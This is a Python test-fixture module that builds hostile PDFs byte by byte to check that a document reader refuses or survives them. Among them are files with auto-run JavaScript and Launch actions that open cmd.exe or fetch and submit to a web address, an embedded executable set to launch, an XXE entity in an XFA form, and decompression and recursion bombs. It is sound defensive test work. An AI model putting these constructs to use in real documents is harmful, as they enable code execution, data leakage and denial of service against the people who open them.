"""PDF files that run programs, go round in circles, or unpack to too much. They are written object
by object, as no library would write them."""

import zlib
from collections.abc import Mapping
from pathlib import Path

from reportlab.lib.pdfencrypt import StandardEncryption
from reportlab.pdfgen.canvas import Canvas

from documents.hostile_files.kinds import OUTSIDE, SECRET, WEB, WORDS, Files
from edi_shortlist.documents.errors import (
    CorruptFile,
    EmptyDocument,
    EncryptedFile,
    FileTooLarge,
    UnsupportedFormat,
)

FILES = Files()
_UNREAD = (CorruptFile, EmptyDocument, FileTooLarge)
_FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
_SHOWN = f"BT /F1 12 Tf 50 700 Td ({WORDS}) Tj ET".encode()


def stream(data: bytes, more: bytes = b"") -> bytes:
    return b"<<%s/Length %d>>\nstream\n%s\nendstream" % (more, len(data), data)


def page(more: bytes = b"", box: bytes = b"0 0 595 842", content: int = 4) -> bytes:
    return (
        b"<</Type/Page/Parent 2 0 R/MediaBox[%s]/Resources<</Font<</F1 5 0 R>>>>/Contents %d 0 R%s>>"
        % (box, content, more)
    )


def pdf(path: Path, changed: Mapping[int, bytes], trailer: bytes = b"") -> None:
    """Write a one-page PDF that says the honest words, with some of its objects replaced."""
    objects: dict[int, bytes] = {
        1: b"<</Type/Catalog/Pages 2 0 R>>",
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: page(),
        4: stream(_SHOWN),
        5: _FONT,
        **changed,
    }
    out = bytearray(b"%PDF-1.7\n")
    places: dict[int, int] = {}
    for number, content in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = len(out)
    for number, place in places.items():
        out += b"" if number != 1 else b"xref\n0 1\n0000000000 65535 f \n"
        out += b"%d 1\n%010d 00000 n \n" % (number, place)
    out += b"trailer\n<</Root 1 0 R/Size %d%s>>\nstartxref\n%d\n%%%%EOF\n" % (
        max(objects) + 1,
        trailer,
        table,
    )
    path.write_bytes(out)


@FILES.add("plain-to-see-that-the-writer-works.pdf", reads=WORDS)
def _(path: Path) -> None:
    pdf(path, {})


@FILES.add("acts.pdf", reads=WORDS)
def _(path: Path) -> None:
    """Everything that a PDF may do when it is opened."""
    web, place = WEB.encode(), str(OUTSIDE).encode()
    acts = (
        b"<</S/JavaScript/JS(app.launchURL('%s'))>>" % web,
        b"<</S/Launch/F(%s)/Win<</F(cmd.exe)/P(/k calc)>>>>" % place,
        b"<</S/URI/URI(%s)>>" % web,
        b"<</S/GoToR/F(%s)/D[0/Fit]>>" % place,
        b"<</S/SubmitForm/F(%s)>>" % web,
        b"<</S/ImportData/F(%s)>>" % place,
        b"<</S/Rendition/R<</S/MR/C<</D(%s)>>>>>>" % web,
    )
    chain = b""
    for act in reversed(acts):
        chain = act[:-2] + (b"/Next %s" % chain if chain else b"") + b">>"
    pdf(
        path,
        {
            1: b"<</Type/Catalog/Pages 2 0 R/OpenAction %s>>" % chain,
            3: page(b"/AA<</O %s>>" % chain),
        },
    )


@FILES.add("brings-a-program.pdf", reads=WORDS)
def _(path: Path) -> None:
    names = b"/Names<</EmbeddedFiles<</Names[(calc.exe)6 0 R]>>/JavaScript<</Names[(a)8 0 R]>>>>"
    pdf(
        path,
        {
            1: b"<</Type/Catalog/Pages 2 0 R%s>>" % names,
            6: b"<</Type/Filespec/F(..\\\\..\\\\calc.exe)/EF<</F 7 0 R>>>>",
            7: stream(b"MZ\x90\0" + SECRET.encode(), b"/Type/EmbeddedFile"),
            8: b"<</S/JavaScript/JS(this.exportDataObject({cName:'calc.exe',nLaunch:2}))>>",
        },
    )


@FILES.add("text-from-another-file.pdf", refused=_UNREAD)
def _(path: Path) -> None:
    """The page's content lies in a file beside it, says the PDF."""
    pdf(path, {4: b"<</Length 0/F(%s)>>\nstream\n\nendstream" % str(OUTSIDE).encode()})


@FILES.add("bomb.pdf", refused=_UNREAD, reads=WORDS)
def _(path: Path) -> None:
    packed = zlib.compress(_SHOWN + b" " * 100_000_000, 9)
    pdf(path, {4: stream(packed, b"/Filter/FlateDecode")})


@FILES.add("bomb-in-a-bomb.pdf", refused=_UNREAD, reads=WORDS)
def _(path: Path) -> None:
    packed = zlib.compress(zlib.compress(zlib.compress(bytes(150_000_000), 9), 9), 9)
    pdf(path, {4: stream(packed, b"/Filter[/FlateDecode/FlateDecode/FlateDecode]")})


@FILES.add("filters-without-end.pdf", refused=_UNREAD)
def _(path: Path) -> None:
    pdf(path, {4: stream(b"x", b"/Filter[%s]" % (b"/ASCIIHexDecode" * 20_000))})


@FILES.add("picture-bomb.pdf", refused=_UNREAD)
def _(path: Path) -> None:
    picture = (
        b"/Type/XObject/Subtype/Image/Width 60000/Height 60000/BitsPerComponent 8"
        b"/ColorSpace/DeviceGray/Filter/FlateDecode"
    )
    pdf(
        path,
        {
            3: page(b"/Resources<</XObject<</I 6 0 R>>>>").replace(
                b"/Resources<</Font<</F1 5 0 R>>>>", b""
            ),
            4: stream(b"q 595 0 0 842 0 0 cm /I Do Q"),
            6: stream(zlib.compress(bytes(30_000_000), 9), picture),
        },
    )


@FILES.add("huge-page.pdf", refused=_UNREAD, reads=WORDS)
def _(path: Path) -> None:
    pdf(path, {3: page(box=b"0 0 2000000000 2000000000")})


@FILES.add("huge-page-of-a-picture.pdf", refused=_UNREAD)
def _(path: Path) -> None:
    """A scan whose page is a kilometre wide."""
    picture = (
        b"/Type/XObject/Subtype/Image/Width 2/Height 2/BitsPerComponent 8/ColorSpace/DeviceGray"
    )
    big = page(b"/Resources<</XObject<</I 6 0 R>>>>", b"0 0 3000000 3000000")
    pdf(
        path,
        {
            3: big.replace(b"/Resources<</Font<</F1 5 0 R>>>>", b""),
            4: stream(b"q 3000000 0 0 3000000 0 0 cm /I Do Q"),
            6: stream(b"\0\xff\xff\0", picture),
        },
    )


@FILES.add("pages-in-a-circle.pdf", refused=_UNREAD, reads=WORDS)
def _(path: Path) -> None:
    pdf(path, {2: b"<</Type/Pages/Kids[3 0 R 6 0 R]/Count 9>>", 6: b"<</Type/Pages/Kids[2 0 R 6 0 R]/Count 9/Parent 2 0 R>>"})  # fmt: skip


@FILES.add("many-pages.pdf", refused=_UNREAD, reads=WORDS)
def _(path: Path) -> None:
    """The same page a hundred thousand times."""
    pdf(path, {2: b"<</Type/Pages/Kids[%s]/Count 100000>>" % (b"3 0 R " * 100_000)})


@FILES.add("deep-arrays.pdf", refused=_UNREAD, reads=WORDS)
def _(path: Path) -> None:
    pdf(path, {3: page(b"/Deep %s%s" % (b"[" * 100_000, b"]" * 100_000))})


@FILES.add("deep-content.pdf", refused=_UNREAD, reads=WORDS)
def _(path: Path) -> None:
    deep = b"[" * 50_000 + b"<<" * 50_000
    pdf(path, {4: stream(_SHOWN + b"\n" + b"q " * 100_000 + deep)})


@FILES.add("form-within-itself.pdf", refused=_UNREAD, reads=WORDS)
def _(path: Path) -> None:
    """A drawing that draws itself, twice."""
    itself = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>"
    resources = b"/Resources<</XObject<</X 6 0 R>>/Font<</F1 5 0 R>>>>"
    pdf(
        path,
        {
            3: page(resources).replace(b"/Resources<</Font<</F1 5 0 R>>>>", b"", 1),
            4: stream(_SHOWN + b" /X Do"),
            6: stream(b"/X Do /X Do", itself),
        },
    )


@FILES.add("forms-that-multiply.pdf", refused=_UNREAD, reads=WORDS)
def _(path: Path) -> None:
    """Ten drawings, each drawing the next one ten times."""
    resources = b"/Resources<</XObject<</X 6 0 R>>/Font<</F1 5 0 R>>>>"
    forms = {
        n: stream(
            b"/X Do " * 10 if n < 16 else b"BT /F1 9 Tf (ha) Tj ET",
            b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X %d 0 R>>/Font<</F1 "
            b"5 0 R>>>>" % (n + 1),
        )
        for n in range(6, 17)
    }
    pdf(
        path,
        {
            3: page(resources).replace(b"/Resources<</Font<</F1 5 0 R>>>>", b"", 1),
            4: stream(_SHOWN + b" /X Do"),
            **forms,
        },
    )


@FILES.add("table-of-objects-in-a-circle.pdf", refused=_UNREAD, reads=WORDS)
def _(path: Path) -> None:
    pdf(path, {})
    table = path.read_bytes().index(b"xref\n0 1")
    pdf(path, {}, b"/Prev %d" % table)


@FILES.add("objects-in-their-own-stream.pdf", refused=_UNREAD)
def _(path: Path) -> None:
    """The catalogue lies in a stream of objects that is said to lie in itself."""
    inner = b"6 0 1 40 " + b" " * 40 + b"<</Type/Catalog/Pages 1 0 R>>"
    path.write_bytes(
        b"%PDF-1.7\n6 0 obj\n"
        + stream(inner, b"/Type/ObjStm/N 2/First 9/Extends 6 0 R")
        + b"\nendobj\ntrailer\n<</Root 1 0 R/Size 7>>\nstartxref\n9\n%%EOF"
    )


@FILES.add("lengths-that-lie.pdf", refused=_UNREAD, reads=WORDS)
def _(path: Path) -> None:
    length = b"<</Length 2147483647>>\nstream\n"
    pdf(path, {4: length + _SHOWN + b"\nendstream", 2: b"<</Type/Pages/Kids[3 0 R]/Count -7>>"})


@FILES.add("length-that-is-itself.pdf", refused=_UNREAD, reads=WORDS)
def _(path: Path) -> None:
    pdf(path, {4: b"<</Length 4 0 R>>\nstream\n" + _SHOWN + b"\nendstream"})


@FILES.add("fields-in-a-circle.pdf", refused=_UNREAD, reads=WORDS)
def _(path: Path) -> None:
    pdf(
        path,
        {
            1: b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[6 0 R]>>/Outlines 7 0 R>>",
            3: page(b"/Annots[6 0 R]"),
            6: b"<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/Parent 6 0 R/Kids[6 0 R]/Rect[9 9 99 99]>>",
            7: b"<</First 7 0 R/Next 7 0 R/Last 7 0 R/Title(a)>>",
        },
    )


@FILES.add("form-of-another-kind.pdf", refused=(UnsupportedFormat, *_UNREAD), reads=WORDS)
def _(path: Path) -> None:
    """An XFA form, whose XML fetches."""
    form = f'<!DOCTYPE x [<!ENTITY e SYSTEM "{OUTSIDE.as_uri()}">]><xdp>&e;</xdp>'.encode()
    pdf(
        path,
        {
            1: b"<</Type/Catalog/Pages 2 0 R/NeedsRendering true/AcroForm<</XFA 6 0 R/Fields[]>>>>",
            6: stream(form),
        },
    )


@FILES.add("locked.pdf", refused=(EncryptedFile,))
def _(path: Path) -> None:
    canvas = Canvas(str(path), encrypt=StandardEncryption("swordfish", strength=128))
    canvas.drawString(50, 700, WORDS)
    canvas.save()


@FILES.add("locked-in-an-odd-way.pdf", refused=(EncryptedFile, CorruptFile))
def _(path: Path) -> None:
    pdf(path, {}, b"/Encrypt<</Filter/Own/V 99/R 99>>/ID[(a)(b)]")


@FILES.add("characters-that-multiply.pdf", refused=_UNREAD, reads=WORDS)
def _(path: Path) -> None:
    """A map by which one character stands for a hundred thousand."""
    to_unicode = b"1 beginbfchar\n<44> <%s>\nendbfchar" % (b"0041" * 100_000)
    pdf(path, {5: _FONT[:-2] + b"/ToUnicode 6 0 R>>", 6: stream(to_unicode)})


@FILES.add("cut-short.pdf", refused=_UNREAD, reads=WORDS)
def _(path: Path) -> None:
    pdf(path, {})
    path.write_bytes(path.read_bytes()[:-200])


@FILES.add("nothing-but-a-head.pdf", refused=_UNREAD)
def _(path: Path) -> None:
    path.write_bytes(b"%PDF-1.7\n" + b"%" * 5000)
